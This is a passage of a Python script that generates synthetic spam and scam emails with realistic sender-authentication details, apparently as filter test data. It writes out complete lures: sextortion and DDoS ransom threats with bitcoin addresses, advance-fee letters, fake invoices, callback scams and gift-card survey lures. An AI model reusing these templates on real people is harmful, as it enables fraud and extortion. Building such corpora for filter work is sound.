                     'Continue application', bad(dom), unsub_url=bad(dom, 'unsubscribe'), footer=['CareerPath Connect, 2261 Market St #4829, San Francisco, CA 94114'], variant=1)
    spam('Fake job-board "shortlisted" upsell via SES', frm=('CareerPath Connect', 'noreply@' + dom), subject='You were shortlisted for a remote role ($32-$38/hr)',
         infra='ses', text=text, html=html, unsub=True)


# ============================================================================
# SPAM F: lead lists, SEO, web design (8)
# ============================================================================
def spam_b2b_lists():
    dom = 'b2bleadsource.net'
    t = anyone()
    text = '''Hi %s,

Would you be interested in acquiring the attendees list of Customer Success Summit 2026?

List includes: Company Name, Contact Name, Title, Email, Phone, Industry, Employee Size, Revenue etc.

Total counts: 14,582 verified contacts
Cost: $1,749

Let me know if you are interested and I'll send more details and a sample for your review.

Regards,
Emma Wilson
Marketing Coordinator

If you don't wish to receive further emails, please reply with "Not Interested".
''' % t[0].split()[0]
    spam('Event attendee-list sales pitch from Google Workspace', frm=('Emma Wilson', 'emma.wilson@' + dom), to=t,
         subject='RE: Customer Success Summit 2026 Attendees list', infra='google', text=text, html=simple_html(text.strip().split('\n\n')),
         dmarc_p='none')

    dom = 'rankfixdigital.com'
    t = who('raj')
    text = '''Hi Raj,

I was going through your website oakmere-consulting.example and found 37 errors that are stopping it from ranking on the first page of Google.

A few of them:
1. Slow page loading speed on mobile
2. Missing meta descriptions and alt tags
3. Very few quality backlinks
4. Not optimized for local search

I would be happy to send you a free audit report with a plan to fix these. Our packages start at $299/month.

Shall I send it over?

Thanks,
Rahul Verma
SEO Consultant
'''
    spam('SEO "I found errors on your site" cold pitch', frm=('Rahul Verma', 'rahul@' + dom), to=t, subject='Website errors - oakmere-consulting.example',
         infra='google', text=text, dmarc_p='none')

    dom = 'webcraftstudio-pro.com'
    t = who('owen')
    text = '''Hello Owen,

I hope you're doing well.

I was looking at quillandpine.example and noticed it isn't fully mobile-friendly and loads slowly. Since more than 70% of visitors browse on phones, you may be losing customers.

We are a team of 40+ developers and designers and we can redesign your site with a modern look, SEO and a fast CMS at a very affordable price.

Can I send you our portfolio and a price quote?

Best Regards,
Sophia
Business Development Manager
WebCraft Studio
'''
    spam('Offshore web-redesign cold pitch from Microsoft 365 tenant', frm=('Sophia | WebCraft Studio', 'sophia@' + dom), to=t,
         subject='Is your website mobile friendly?', infra='m365', text=text, html=simple_html(text.strip().split('\n\n'), gmail=False),
         tenant='webcraftstudiopro')

    dom = 'contentreachhub.com'
    t = who('maya')
    text = '''Hi there,

I'm Mark, a content manager. I came across your blog and really enjoyed it.

I'd love to contribute a high-quality guest post to your site on a topic relevant to your audience. In return I'd only ask for one do-follow link in the body.

We can also pay a fee for publishing if you prefer. What are your rates for a sponsored post?

Looking forward to hearing from you.

Mark Stevens
'''
    spam('Guest-post / paid-link request', frm=('Mark Stevens', 'mark@' + dom), to=t, subject='Guest post collaboration',
         infra='google', text=text, dmarc_p='none')

    dom = 'datavista-leads.com'
    t = who('leah')
    text = '''Hi %s,

I am following up on my email below. Did you get a chance to review it?

Please let me know your thoughts.

Regards,
Jessica Brown

-----Original Message-----
From: Jessica Brown
Sent: %s
To: %s
Subject: Healthcare Decision Makers List

Hi,

Would you be interested in Healthcare Decision Makers contact list across the USA?

Titles: CEOs, CFOs, CMOs, Practice Managers, Physicians, Nurses and more.
Counts: 1.2M records with verified emails.

Kind regards,
Jessica
''' % (t[0].split()[0], (rdate()).strftime('%A, %B %-d, %Y %-I:%M %p'), t[1])
    spam('Fake follow-up "Re:" lead-list pitch with fabricated earlier message', frm=('Jessica Brown', 'jessica@' + dom), to=t,
         subject='RE: Healthcare Decision Makers List', infra='m365', text=text, tenant='datavistaleads')

    dom = 'devsquad-offshore.com'
    t = who('nadia')
    text = '''Hi Nadia,

Hope you are doing great!

Are you looking to hire dedicated developers for your ongoing or upcoming projects? We provide skilled resources at $18/hr:

- Python / Django / FastAPI
- React / Next.js / Node
- Data engineering (Spark, Airflow, dbt)
- AI/ML and LLM integrations

Free 1-week trial, no long-term commitment.

Would you be available for a quick 15-minute call this week?

Thanks & Regards,
Kunal Sharma
Business Development
'''
    spam('Offshore developer staffing cold pitch via Zoho', frm=('Kunal Sharma', 'kunal@' + dom), to=t, subject='Dedicated developers at $18/hr',
         infra='zoho', text=text)

    dom = 'reviewboost-pro.com'
    text, html = mkt('ReviewBoost', '#fbbc04', 'Get 50 five-star reviews this month',
                     ['Businesses with 4.8+ stars get up to 3x more calls. Our network of real local reviewers will post genuine-looking reviews for your business.',
                      'Packages from $99. Results guaranteed or your money back.'],
                     'See packages', trk('sgb', dom), unsub_url=trk('sgb', dom), footer=['ReviewBoost, 1001 S Main St Ste 500, Kalispell, MT 59901'], variant=1)
    spam('Fake online reviews service promo via SendGrid', frm=('ReviewBoost', 'hello@' + dom), subject='⭐⭐⭐⭐⭐ 50 reviews for your business?',
         infra='sendgrid', text=text, html=html, unsub=True)

    dom = 'motionly-studio.co'
    t = who('grace')
    text = '''Hey Grace,

Made you a quick 60-second video about Oakmere's homepage - I think there's an easy way to turn more visitors into booked calls:

%s

(Thumbnail shows your site with a "Hi Grace" note on it - promise it's not a template 😅)

If it's useful, happy to do a full explainer video for $1,500 flat.

Dylan
Motionly Studio
''' % bad(dom, 'v/' + rs(10), q=False)
    spam('AI-personalised "I made you a video" agency pitch', frm=('Dylan from Motionly', 'dylan@' + dom), to=t,
         subject='made a quick video for Oakmere', infra='google', text=text, html=simple_html(text.strip().split('\n\n')), dmarc_p='none')


# ============================================================================
# SPAM G: extended car warranty (4)
# ============================================================================
def spam_warranty():
    dom = 'autoprotect-center.com'
    t = anyone()
    text = '''FINAL NOTICE - VEHICLE SERVICE CONTRACT

%s,

Our records indicate that your vehicle's factory warranty has expired or is about to expire. This is your final opportunity to activate extended coverage before your file is closed.

Without coverage you may be responsible for the full cost of repairs. The average transmission repair costs $4,200.

Call now to reactivate: 1-888-555-0%s
Or activate online: %s

Reference #: VSC-%s

Vehicle Services Department
This is an advertisement. Not affiliated with your vehicle manufacturer or dealer.
''' % (t[0].split()[0].upper(), rdig(3), bad(dom), rdig(8))
    spam('Extended car-warranty "final notice" from botnet', frm=('Vehicle Services Dept.', 'notice@' + dom), to=t,
         subject='FINAL NOTICE: Vehicle warranty expiration - Ref VSC-%s' % rdig(6), infra='direct', text=text, spf='softfail', dmarc_p=None)

    dom = 'drivesafe-protect.net'
    text, html = mkt('DriveSafe Protection', '#0d47a1', 'Coverage for your 2019 Honda - act now',
                     ['Repair costs are up 23% since 2022. A single engine or transmission failure can cost thousands.',
                      'DriveSafe plans cover major components, roadside assistance and rental car reimbursement. Plans from $89/month with $0 down.',
                      'Get a free quote in 60 seconds.'],
                     'Get my free quote', trk('sgb', dom), unsub_url=trk('sgb', dom), footer=['DriveSafe Protection LLC, 14500 Roscoe Blvd, Panorama City, CA 91402'], variant=0)
    spam('Car-warranty quote offer via SendGrid', frm=('DriveSafe Protection', 'info@' + dom), subject='Your 2019 Honda coverage (quote inside)',
         infra='sendgrid', text=text, html=html, unsub=True)

    dom = 'autoshielddirect.click'
    html = spam_html([], 'GET FREE QUOTE', bad(dom), '#ff6f00', None, img='https://%s/i/%s.jpg' % (dom, rhex(10)), hidden=True,
                     unsub=bad(dom, 'out'), foot='Auto Shield Direct. 5 Penn Plaza, New York, NY 10001')
    spam('Image-only car-warranty email with hidden text via Mailjet', frm=('Auto Shield Direct', 'quotes@' + dom),
         subject='Don\'t pay for your next repair ✔', infra='mailjet', html=html, unsub=True)

    dom = 'ridgecrest-plumbing.com'
    text = '''Good day,

Re: your vehicle service contract

We have tried to reach you regarding the extended warranty on your vehicle. Please call our service department at 1-866-555-0%s at your earliest convenience to avoid cancellation.

Thank you,
Service Department
''' % rdig(3)
    spam('Car-warranty spam sent from a compromised small-business mailbox', frm=('Service Department', 'office@' + dom),
         subject='Re: your vehicle service contract', infra='cpanel', host='s%d.hostpanel-eu.net' % R.randint(100, 999), webmail=True,
         cp_dkim=True, text=text, headers=[('User-Agent', 'Roundcube Webmail/1.4.11')], to_hdr='undisclosed-recipients:;')


# ============================================================================
# SPAM H: solar / roofing / home improvement (5)
# ============================================================================
def spam_home():
    dom = 'sunpath-energy.com'
    text, html = mkt('SunPath Energy', '#f9a825', 'Homeowners: $0-down solar program ends Friday',
                     ['Utility rates went up again this year. Homeowners in your ZIP code are switching to solar with no upfront cost and locking in lower monthly payments.',
                      'Qualify for the 30% federal tax credit before it changes. See how much you could save in 30 seconds.'],
                     'Check my savings', trk('hsb', dom), unsub_url=trk('hsb', dom), footer=['SunPath Energy, 3020 Old Ranch Pkwy, Seal Beach, CA 90740'], variant=0)
    spam('Solar $0-down lead-gen via HubSpot', frm=('SunPath Energy', 'info@' + dom), subject='Homeowners: $0-down solar ends Friday ☀️',
         infra='hubspot', text=text, html=html, unsub=True, hs_host='go.' + dom)

    dom = 'stormroofpros.net'
    text = '''Hi,

Our inspectors were in your neighborhood after the recent storms and noticed several homes with hail and wind damage.

Your roof may qualify for a FREE replacement through your homeowner's insurance. We handle the entire claim for you - you pay only your deductible (and in many cases we can cover that too).

Schedule your free 15-minute inspection: %s

Spots are filling fast this week.

Storm Roofing Pros
Licensed & insured
Reply STOP to unsubscribe
''' % trk('sgb', dom)
    spam('Storm-damage roof insurance-claim pitch via SendGrid', frm=('Storm Roofing Pros', 'claims@' + dom), subject='Your roof may qualify for a free replacement',
         infra='sendgrid', text=text, unsub=True)

    dom = 'solarsavings-alert.info'
    html = spam_html(['ATTENTION HOMEOWNERS:', 'New state program pays for your solar panels. Cut your electric bill by up to 90%.',
                      'Enter your ZIP code to see if your home qualifies.'], 'CHECK MY ZIP', bad(dom), '#388e3c', 'Cut your electric bill by 90%',
                     hidden=True, unsub=bad(dom, 'remove'), foot='This is an advertisement. 1200 Ave of Americas, NY, NY 10036')
    spam('"State program" solar spam HTML-only from botnet', frm=('Solar Savings Alert', 'alerts@' + dom), subject='New program pays for your solar panels',
         infra='direct', html=html, spf='softfail', dmarc_p=None)

    dom = 'clearviewwindows-deals.com'
    text, html = mkt('ClearView Windows', '#00838f', 'Buy 1 window, get 1 FREE',
                     ['Plus $0 down, $0 interest for 2 years. Energy-efficient windows can cut heating and cooling costs by up to 25%.',
                      'Offer ends Sunday. Schedule your free in-home estimate.'],
                     'Schedule estimate', bad(dom), unsub_url=bad(dom, 'unsub'), footer=['ClearView Windows, 100 Overlook Center, Princeton, NJ 08540'], variant=1)
    spam('Home-window BOGO promo via Mailgun', frm=('ClearView Windows', 'deals@' + dom), subject='BOGO windows + $0 interest (ends Sunday)',
         infra='mailgun', text=text, html=html, unsub=True)

    dom = 'solar-check24.online'
    text = '''Sehr geehrte Hauseigentümerin, sehr geehrter Hauseigentümer,

mit einer Photovoltaikanlage ohne Anschaffungskosten senken Sie Ihre Stromrechnung um bis zu 80 %%.

Wir pachten Ihr Dach und Sie beziehen günstigen Solarstrom – ganz ohne Investition. Jetzt kostenlos und unverbindlich prüfen, ob Ihr Haus geeignet ist:

%s

Das Angebot gilt nur noch bis Ende des Monats.

Mit sonnigen Grüßen
Ihr Solarberater-Team

Sie möchten keine E-Mails mehr erhalten? %s
''' % (bad(dom), bad(dom, 'abmelden'))
    spam('German rooftop-solar lead-gen spam via Brevo', frm=('Solarberater', 'info@' + dom), to=P['katrin'],
         subject='Photovoltaik ohne Anschaffungskosten – jetzt prüfen', infra='brevo', text=text, unsub=True)


# ============================================================================
# SPAM I: gift-card rewards / surveys (7)
# ============================================================================
def spam_rewards():
    dom = 'member-rewards-center.com'
    html = spam_html(['Dear Costco Member,', 'Congratulations! You have been selected to receive a $500 Costco gift card as part of our annual loyalty program.',
                      'To claim your reward, simply answer 4 short questions about your shopping experience. This offer expires today.'],
                     'CLAIM MY $500 CARD', bad(dom), '#e31837', '🎁 Your $500 reward is waiting', hidden=True,
                     foot='This is an independent rewards program and is not affiliated with or endorsed by the brand mentioned.',
                     unsub=bad(dom, 'unsub'))
    spam('Brand-themed gift-card survey lure from botnet (no brand domain)', frm=('Costco Rewards', 'rewards@' + dom),
         subject='Congratulations! You\'ve been selected for a $500 gift card', infra='direct', html=html, spf='softfail', dmarc_p=None)

    dom = 'feedback-rewardsclub.shop'
    text = '''Your opinion is worth $100!

Complete our 30-second survey about your recent shopping experience and receive a $100 Walmart gift card.

Start survey: %s

Only 1 reward per household. Survey closes at midnight.

--
feedback rewards club | unsubscribe: %s
''' % (trk('x', dom), bad(dom, 'unsubscribe'))
    spam('Survey-for-gift-card lure via Mailjet', frm=('Survey Center', 'survey@' + dom), subject='Your opinion is worth $100 (30-second survey)',
         infra='mailjet', text=text, html=spam_html(text.split('\n\n')[:3], 'START SURVEY', bad(dom), '#0071dc'), unsub=True)

    dom = 'harbourside-dental.com'
    html = spam_html(['Congratulations!', 'You have been chosen to receive a brand-new Dyson V15 Detect. Just pay $1.95 for shipping.',
                      'Only 3 units left. Confirm your shipping address now.'], 'CLAIM NOW', 'https://%s/r/%s' % ('loyaltygift-claims.top', rs(10)),
                     '#7b1fa2', 'Loyalty Program Reward', img='https://loyaltygift-claims.top/img/%s.png' % rl(8), hidden=True)
    spam('"Pay shipping only" prize lure sent from a compromised dental-office mailbox', frm=('Loyalty Program', 'frontdesk@' + dom),
         subject='Your reward: Dyson V15 - confirm shipping', infra='cpanel', host='cpanel%d.webnode-hosting.net' % R.randint(10, 99),
         webmail=True, cp_dkim=True, html=html, to_hdr='Recipients <frontdesk@%s>' % dom, headers=[('User-Agent', 'Roundcube Webmail/1.5.3')])

    dom = 'prize-notify.click'
    html = spam_html(['You have (1) pending reward.', 'Reference: RWD-%s' % rdig(6), 'Status: AWAITING CONFIRMATION'], 'CONFIRM REWARD',
                     bad(dom), '#2e7d32', None, hidden=True, foot='Unsubscribe at any time.', unsub=bad(dom, 'u'))
    spam('Terse "pending reward" HTML-only lure', frm=('Rewards Dept.', 'dept@' + dom), subject='(1) pending reward - confirm by today',
         infra='direct', html=html, spf='none', dmarc_p=None)

    dom = 'ninjagift-offers.com'
    text = '''ORDER CONFIRMATION #%s

Item: Ninja Foodi 8-in-1 Air Fryer
Price: $0.00 (FREE - Loyalty Reward)
Status: Pending - shipping not paid

Your order will be cancelled if shipping ($2.99) is not completed within 24 hours.

Complete order: %s
''' % (rdig(8), bad(dom))
    spam('Fake order confirmation for free appliance, shipping-fee trap', frm=('Order Update', 'orders@' + dom), subject='Order #%s pending: complete shipping' % rdig(7),
         infra='sendgrid', text=text, unsub=True)

    dom = 'offres-fidelite.online'
    text = '''Félicitations !

Vous avez été sélectionné(e) pour tester gratuitement le nouvel iPhone 17 Pro. Il vous suffit de répondre à notre enquête de satisfaction (2 minutes).

Commencer l'enquête : %s

Offre limitée à une participation par foyer. Valable aujourd'hui uniquement.

Se désinscrire : %s
''' % (bad(dom), bad(dom, 'desinscription'))
    spam('French "you have been selected" survey scam', frm=('Service Client', 'cadeau@' + dom), to=P['camille'],
         subject='Félicitations ! Vous avez été sélectionné(e) 🎁', infra='direct', text=text, charset='utf-8', text_cte='base64', spf='softfail', dmarc_p=None)

    dom = 'flyer-voucher.net'
    text = '''Dear Traveler,

Our records show you have 48,200 unused airline miles that will expire on %s.

You can convert your miles into a travel voucher worth $650. Claim your voucher before it expires:

%s

Traveler Rewards Program
''' % ((rdate()).strftime('%m/%d/%Y'), bad(dom))
    spam('"Your airline miles are expiring" voucher scam', frm=('Traveler Rewards', 'miles@' + dom), subject='Your 48,200 miles expire soon - claim your $650 voucher',
         infra='direct', text=text, spf='neutral', dmarc_p=None)


# ============================================================================
# SPAM J: sextortion / extortion (4)
# ============================================================================
def btc_addr():
    return 'bc1q' + rs(38, 'qpzry9x8gf2tvdw0s3jn54khce6mua7l')


def spam_extortion():
    t = anyone()
    text = '''Hello!

I have to share bad news with you.
Approximately few months ago I have gained access to your devices, which you use for internet browsing.
After that, I have started tracking your internet activities.

Here is the sequence of events:
Some time ago I have purchased access to email accounts from hackers (nowadays, it is quite simple to purchase it online).
Obviously, I have easily managed to log in to your email account (%s).

One week later, I have already installed Trojan virus to Operating Systems of all the devices that you use to access your email.

I made a video showing you satisfying yourself on the left half of the screen, and in the right half you see the video that you were watching.
With one click of my mouse, this video can be sent to all your emails and contacts on social networks.

If you want to prevent this, transfer the amount of $1450 to my bitcoin address:
%s

After receiving the payment, I will delete the video and you will never hear from me again.
You have 48 hours. I get a notification when you open this letter.

Do not try to reply, this address was generated. Do not contact police.
''' % (t[1], btc_addr())
    spam('Sextortion with spoofed recipient address as sender, SPF fail', frm=(t[0], t[1]), to=t, subject='%s' % t[1],
         infra='direct', text=text, spf='fail', dmarc_p=None, text_cte='base64')

    t = anyone()
    pdf = make_pdf(['%s,' % t[0].split()[0], 'I know everything about you.', 'Pegasus spyware has been on your phone for months.',
                    'Pay $1,950 in Bitcoin to:', btc_addr(), 'or your recordings go to your contacts in 50 hours.'], title='Private', d=rdate())
    text = '''%s,

I suggest you read this message carefully. Take a minute to relax, breathe, and really dig into it. Details are in the attached PDF.

Tick-tock.
''' % t[0].split()[0]
    spam('Sextortion with Pegasus story in PDF attachment', frm=('', 'noreply.%s@secure-mailsafe.cc' % rl(6)), to=t,
         subject='%s, your privacy is at risk' % t[0].split()[0], infra='direct', text=text,
         attachments=[attach(pdf, 'application/pdf', '%s.pdf' % t[0].split()[0])], spf='softfail', dmarc_p=None)

    text = '''To the owner of bluefen-analytics.example,

We are the group that took down several analytics and e-commerce platforms last month. Your network is next.

On %s at 14:00 UTC we will begin a DDoS attack of 2 Tbps against your infrastructure. It will not stop until you pay 0.5 BTC to:
%s

If you pay before the deadline, the attack will be cancelled. If you don't, the price doubles every day. We will know if you pay.

This is not a joke. Check the news.
''' % ((rdate((2026, 1, 1), (2026, 11, 20))).strftime('%B %-d'), btc_addr())
    spam('DDoS ransom extortion threat to an ops mailbox', frm=('Anonymous Collective', 'ddos.notice@cybershadow-mail.net'), to=P['ops_bluefen'],
         subject='Ransom request: DDoS attack scheduled', infra='direct', text=text, spf='none', dmarc_p=None)

    t = anyone()
    text = '''Hi, %s.

I know that %s*** is your password. You may not know me, and you're probably wondering why you're getting this email.

Your password was leaked in a data breach, and I used it to get into your devices. I have videos from your webcam and a copy of your browsing history.

My price is $2000 in Bitcoin. BTC address: %s

You have one day to pay. If I don't get the payment, I will send the recordings to all of your contacts, including relatives and co-workers.
''' % (t[0].split()[0], rs(3, string.ascii_lowercase), btc_addr())
    spam('Sextortion quoting a partial leaked password', frm=('', 'info@mailgrid-%s.xyz' % rl(5)), to=t,
         subject='Your account was hacked - %s***' % rs(3, string.ascii_lowercase), infra='direct', text=text, spf='neutral', dmarc_p=None,
         charset='windows-1252', text_cte='quoted-printable')


# ============================================================================
# SPAM K: advance-fee (5)
# ============================================================================
def spam_advance():
    text = '''ATTENTION: BENEFICIARY

I am Barrister James Okonkwo, a solicitor at law and personal attorney to late Mr. Anthony %s, a national of your country, who used to work with Shell Development Company in Nigeria.

On the 21st of April 2019, my client, his wife and their only daughter were involved in a car accident along Sagamu Express Road. All occupants of the vehicle unfortunately lost their lives.

Since then I have made several enquiries to locate any of my client's extended relatives, this has also proved unsuccessful. I decided to contact you because you share the same last name with the deceased.

My client left a deposit of US$9.5 Million (Nine Million Five Hundred Thousand United States Dollars) with a bank here. The bank has issued me notice to provide the next of kin or have the account confiscated.

I seek your consent to present you as the next of kin so that the proceeds can be paid to you. We will share 50/50.

Please reply to my private email: barr.jamesokonkwo@chambers-legal.org

Barr. James Okonkwo (Esq.)
''' % pick(['Marlowe', 'Hartley', 'Brennan', 'Menon'])
    spam('Classic next-of-kin inheritance advance-fee letter', frm=('Barr. James Okonkwo', 'info@okonkwo-chambers.com'),
         reply_to=('Barr. James Okonkwo', 'barr.jamesokonkwo@chambers-legal.org'), subject='ATTENTION: BENEFICIARY (URGENT RESPONSE)',
         infra='direct', text=text, spf='softfail', dmarc_p=None)

    text = '''UNITED NATIONS COMPENSATION FUND
Office of the Director, Payment Department

Dear Beneficiary,

This is to inform you that your name and email address appear on the list of scam victims to be compensated by the United Nations with the sum of $1,500,000.00 USD.

Your compensation has been loaded on an ATM VISA Card which will be delivered to you by DHL courier. You are required to reconfirm the following:

1. Full Name
2. Home Address
3. Phone Number
4. Copy of ID

Note: You are to pay only the delivery fee of $250.

Contact: Mr. Walter Hughes, Director ATM Payment Center
Email: walter.hughes@unpayment-desk.org
'''
    spam('"UN compensation fund" ATM-card advance-fee scam', frm=('UN Compensation Fund', 'compensation@unfund-payments.org'),
         reply_to=('Walter Hughes', 'walter.hughes@unpayment-desk.org'), subject='Compensation Payment Notification', infra='direct', text=text,
         spf='none', dmarc_p=None, to_hdr='undisclosed-recipients:;')

    doc = make_docx(['EURO MILLIONS INTERNATIONAL PROMOTIONS', 'WINNING NOTIFICATION', 'Ticket No: EM-%s' % rdig(8), 'Amount won: EUR 850,000.00',
                     'CLAIMS VERIFICATION FORM', 'Full name:', 'Address:', 'Nationality:', 'Age:', 'Occupation:', 'Telephone:',
                     'Fill and return to the claims agent: Dr. Pedro Alvarez'], 'Winning notification', 'Claims Department')
    text = '''Dear Lucky Winner,

Your email address was selected in our international email lottery draw held in Madrid, Spain. You have won the sum of EUR 850,000.00.

Please find attached your winning notification and claims form. Fill and return it to our claims agent immediately.

Congratulations once again.

Mrs. Maria Gonzalez
Promotions Manager
'''
    spam('Email lottery win notification with DOCX claim form', frm=('Euro Millions Promotions', 'awards@euromillions-claimsdesk.com'),
         reply_to=('Claims Agent', 'claims.pedroalvarez@mailbox-es.net'), subject='WINNING NOTIFICATION: EUR 850,000.00', infra='direct', text=text,
         attachments=[attach(doc, 'application/vnd.openxmlformats-officedocument.wordprocessingml.document', 'WINNING_NOTIFICATION.docx')],
         spf='softfail', dmarc_p=None)

    text = '''Dear Beloved,

I am Mrs. Helen Schmidt, a widow suffering from long-time cancer. My doctor told me that I have only few months to live.

My late husband left the sum of $4.5 Million in a bank account. I want you to help me use this fund for charity work, orphanages and widows. I will give you 30% for your effort.

Please reply with your full name and phone number so I can give you the contact of the bank.

God bless you,
Mrs. Helen Schmidt
'''
    spam('Dying-widow charity donation advance-fee letter', frm=('Mrs. Helen Schmidt', 'helen.schmidt1957@mailboxly.net'), subject='Charity Donation - Please Respond',
         infra='direct', text=text, spf='pass', dmarc_p='none', dkim_override=[('mailboxly.net', 'mx', 'rsa')], helo='mail.mailboxly.net')

    text = '''Estimado amigo:

Me dirijo a usted con el debido respeto. Soy el Sr. Carlos Mendoza, director de auditoría de un banco en Madrid.

Durante nuestra auditoría descubrimos una cuenta inactiva con un saldo de 7,3 millones de euros cuyo titular falleció sin herederos. Necesito un socio extranjero de confianza para reclamar estos fondos. Le ofrezco el 40 % del total.

Esta transacción es 100 % legal y libre de riesgos. Por favor, responda con sus datos completos a mi correo privado.

Atentamente,
Sr. Carlos Mendoza
'''
    spam('Spanish dormant-account business-proposal advance-fee', frm=('Carlos Mendoza', 'c.mendoza@auditoria-privada.net'), to=P['javier'],
         subject='Propuesta confidencial', infra='direct', text=text, charset='iso-8859-1', text_cte='8bit', hcs='iso-8859-1',
         spf='softfail', dmarc_p=None)


# ============================================================================
# SPAM L: fake invoices / callback scams (4)
# ============================================================================
def spam_invoices():
    dom = 'northwind-billing.com'
    inv = 'INV-%s' % rdig(5)
    t = who('ap_harbor')
    pdf = make_pdf(['Northwind Billing Services', 'INVOICE %s' % inv, 'Bill to: Harborline Legal', 'Description: Annual IT support retainer',
                    'Amount due: $4,860.00', 'Status: OVERDUE - 45 days', 'Pay by wire to the account listed on page 2.'], title=inv, d=rdate())
    text = '''Hello,

Please see the attached invoice %s which is now 45 days overdue. Kindly arrange payment today to avoid late fees and suspension of services.

Let me know once payment has been processed.

Regards,
Accounts Receivable
Northwind Billing Services
''' % inv
    spam('Fake overdue invoice with PDF to an AP mailbox', frm=('Accounts Receivable', 'ar@' + dom), to=t, subject='Overdue invoice %s - payment required' % inv,
         infra='m365', text=text, attachments=[attach(pdf, 'application/pdf', '%s.pdf' % inv)], tenant='northwindbilling')

    dom = 'renewal-support.online'
    amt = '$%s' % pick(['399.99', '449.00', '529.99', '289.95'])
    pdf = make_pdf(['SecureShield 360 Total Protection', 'Order Invoice #%s' % rdig(9), 'Product: 5-device, 3-year plan', 'Amount charged: %s' % amt,
                    'Payment: Auto-renewal', 'If you did not authorize this charge, call 1-888-555-0%s within 24 hours.' % rdig(3)], title='Invoice', d=rdate())
    text = '''Dear Customer,

Thank you for renewing your SecureShield 360 subscription. Your account has been charged %s.

Order details are attached.

If you did not authorize this renewal or wish to cancel, please call our billing department within 24 hours at 1-888-555-0%s to receive a full refund.

Billing Department
''' % (amt, rdig(3))
    spam('Callback scam: fake antivirus renewal invoice with PDF', frm=('Billing Department', 'billing-dept@' + dom), subject='Your subscription has been renewed (%s)' % amt,
         infra='direct', helo='mail.' + dom, text=text, attachments=[attach(pdf, 'application/pdf', 'Invoice_%s.pdf' % rdig(6))],
         spf='pass', dmarc_p='none', dkim_override=[(dom, 'default', 'rsa')])

    dom = 'invoicely-pay.com'
    text, html = txn('Mike Tech Services', '#333333', 'Invoice #%s from Mike Tech Services' % rdig(5),
                     ['You have received an invoice.'], rows=[('Geek Support Annual Plan', '$749.00'), ('Due', 'Upon receipt')], total=('Total', '$749.00'),
                     after=['This payment will be auto-debited from your account in 24 hours. If you did not request this service, call 1-855-555-0%s immediately.' % rdig(3)],
                     cta='View invoice', url=bad(dom), footer=['Sent via Invoicely Pay'])
    spam('Callback scam through a look-alike invoicing service', frm=('Mike Tech Services', 'no-reply@' + dom), subject='Invoice from Mike Tech Services - $749.00',
         infra='sendgrid', text=text, html=html)

    dom = 'atlas-freightlines.com'
    z = make_zip([('Proforma_Invoice_%s.pdf' % rdig(5), make_pdf(['PROFORMA INVOICE', 'Shipment ref %s' % rdig(8), 'Please confirm payment'], title='Proforma', d=rdate())),
                  ('Payment_Details.url', '[InternetShortcut]\r\nURL=https://atlas-freight-docs.sbs/pay/%s\r\n' % rs(10))])
    text = '''Good day,

Kindly find attached proforma invoice and payment details for the shipment. Please check and confirm so we can release the goods.

Best regards,
Accounts Dept.
Atlas Freight Lines
'''
    spam('Proforma-invoice ZIP from a compromised freight-company mailbox', frm=('Accounts Dept.', 'accounts@' + dom), subject='Proforma Invoice - Shipment Ref %s' % rdig(7),
         infra='cpanel', host='server%d.cloudhost-asia.net' % R.randint(10, 99), webmail=True, cp_dkim=True, text=text,
         attachments=[attach(z, 'application/zip', 'Proforma_Invoice.zip')], headers=[('User-Agent', 'Roundcube Webmail/1.6.6')])


# ============================================================================
# SPAM M: domain / listing / trademark renewal scams (5)
# ============================================================================
def spam_renewal():
    dom = 'domain-registry-services.com'
    t = who('sam')
    text = '''DOMAIN SERVICE NOTICE

Domain Name: NORTHFIELD-STUDIO.EXAMPLE
Notice ID: %s

Attn: Sam Whitcombe
Northfield Studio

Your domain search engine registration for northfield-studio.example expires on %s.

Failure to complete your search engine registration by the expiration date may result in the cancellation of this offer, making it difficult for your customers to locate you on the web.

Secure online payment: %s

Annual search engine submission: $86.00

This is not a bill. This is an optional offer for search engine submission. You are under no obligation to pay.
''' % (rdig(8), (rdate()).strftime('%b %d, %Y'), bad(dom))
    spam('"Domain service notice" SEO-submission renewal scam', frm=('Domain Service', 'notice@' + dom), to=t,
         subject='Domain Notice: NORTHFIELD-STUDIO.EXAMPLE - Expiration', infra='direct', text=text, spf='none', dmarc_p=None)

    dom = 'usbiz-registry.org'
    pdf = make_pdf(['US BUSINESS REGISTRY', 'LISTING RENEWAL FORM', 'Company: Quill & Pine', 'Annual listing fee: $1,195.00',
                    'Sign and return to keep your listing active.', 'Small print: this is a solicitation for a directory listing.'], title='Renewal', d=rdate())
    text = '''FINAL NOTICE

Your company listing in the US Business Registry will be removed unless the attached renewal form is completed and returned within 7 days.

Please review your details, sign the form, and email it back to us.

Registration Department
'''
    spam('Business-directory listing renewal scam with PDF form', frm=('US Business Registry', 'listing@' + dom), to=who('iris'),
         subject='FINAL NOTICE: Listing removal - action required', infra='mailjet', text=text,
         attachments=[attach(pdf, 'application/pdf', 'Renewal_Form_%s.pdf' % rdig(6))])

    dom = 'trademark-registration-office.net'
    pdf = make_pdf(['INTERNATIONAL TRADEMARK REGISTER', 'Publication notice', 'Mark: LINDENHOF', 'Publication fee: EUR 2,470.00',
                    'Payment due within 10 days.'], title='Trademark register', d=rdate())
    text = '''Dear Sir or Madam,

Your trademark application has been recorded. To complete the publication in the International Trademark Register, please pay the publication fee stated in the attached notice.

Kind regards,
Registration Office
'''
    spam('Fake trademark-register publication invoice', frm=('Intl. Trademark Register', 'renewals@' + dom), to=P['katrin'],
         subject='Trademark publication notice - payment due', infra='direct', text=text,
         attachments=[attach(pdf, 'application/pdf', 'Publication_Notice.pdf')], spf='softfail', dmarc_p=None)

    dom = 'sh-netregistry.com'
    text = '''Dear CEO,

(If you are not the person who is in charge of this, please forward this to your CEO, because this is urgent. Thanks)

We are a Network Service Company which is the domain name registration center in Shanghai, China. On %s, we received an application from Hongda Ltd requesting "kestrel-labs" as their internet keyword and China (CN) domain names (kestrel-labs.cn, kestrel-labs.com.cn, kestrel-labs.net.cn, kestrel-labs.org.cn).

But after checking it, we find this name conflicts with your company name or trademark. In order to deal with this matter better, it's necessary to send an email to you and confirm whether this company is your distributor or business partner in China?

Best Regards,

Jim Liu | Service & Operations Manager
China Registry (Head Office)
''' % (rdate()).strftime('%B %-d, %Y')
    spam('Chinese domain-registration urgency scam', frm=('Jim Liu', 'jim.liu@' + dom), to=who('ana'), subject='kestrel-labs Brand and Domain Registration',
         infra='direct', text=text, spf='pass', dmarc_p=None, dkim_override=[])

    dom = 'ssl-renewal-notice.com'
    html = spam_html(['Your SSL certificate for northfield-studio.example will expire in 3 days.',
